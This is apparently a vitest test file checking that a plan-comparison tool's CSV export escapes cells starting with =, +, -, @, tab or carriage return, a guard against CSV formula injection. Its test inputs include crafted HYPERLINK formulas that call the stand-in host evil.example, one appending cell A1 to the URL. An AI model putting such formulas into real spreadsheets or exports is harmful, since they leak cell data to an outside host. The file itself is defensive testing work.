import { describe, expect, it } from 'vitest';
import { comparePlans } from '../src/compare.js';
import { comparisonToCsv, csvField } from '../src/report-csv.js';
import { neutraliseFormula } from '../src/csv-injection.js';
import { loadPlan } from './support/fixtures.js';

// Issue 12: cells starting with = + - @ went out unquoted, so a crafted notice ran formulas in a spreadsheet
// (CLI `--csv` and the viewer's export, which both call comparisonToCsv). OWASP's CSV Injection rule.

describe('CSV formula injection', () => {
  it('prefixes an apostrophe and quotes every cell that starts with = + - @, tab or CR', () => {
    expect(csvField('=HYPERLINK("http://evil.example","点击")')).toBe('"\'=HYPERLINK(""http://evil.example"",""点击"")"');
    expect(csvField('+1')).toBe('"\'+1"');
    expect(csvField('-2%左右')).toBe('"\'-2%左右"');
    expect(csvField('@SUM(A1)')).toBe('"\'@SUM(A1)"');
    expect(csvField('\tcmd')).toBe('"\'\tcmd"');
    expect(csvField('\rcmd')).toBe('"\'\rcmd"');
    expect(neutraliseFormula('地区生产总值增长5%左右')).toBe('地区生产总值增长5%左右');
    expect(csvField('地区生产总值增长5%左右')).toBe('地区生产总值增长5%左右');
    expect(csvField(-3)).toBe('-3'); // a number the exporter computed is not text from a notice
  });

  it('neutralises a crafted task title in a real comparison (gov-work-report 2024 → 2025)', () => {
    const from = loadPlan('gov-work-report', 2024);
    const to = structuredClone(loadPlan('gov-work-report', 2025));
    const c = comparePlans(from, to);
    const linked = c.links.find((l) => l.to.length === 1)!;
    const task = to.tasks.find((t) => t.id === linked.to[0])!;
    task.title = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
    const csv = comparisonToCsv(c, from, to);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""详情"")"');
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/mu);
  });
});
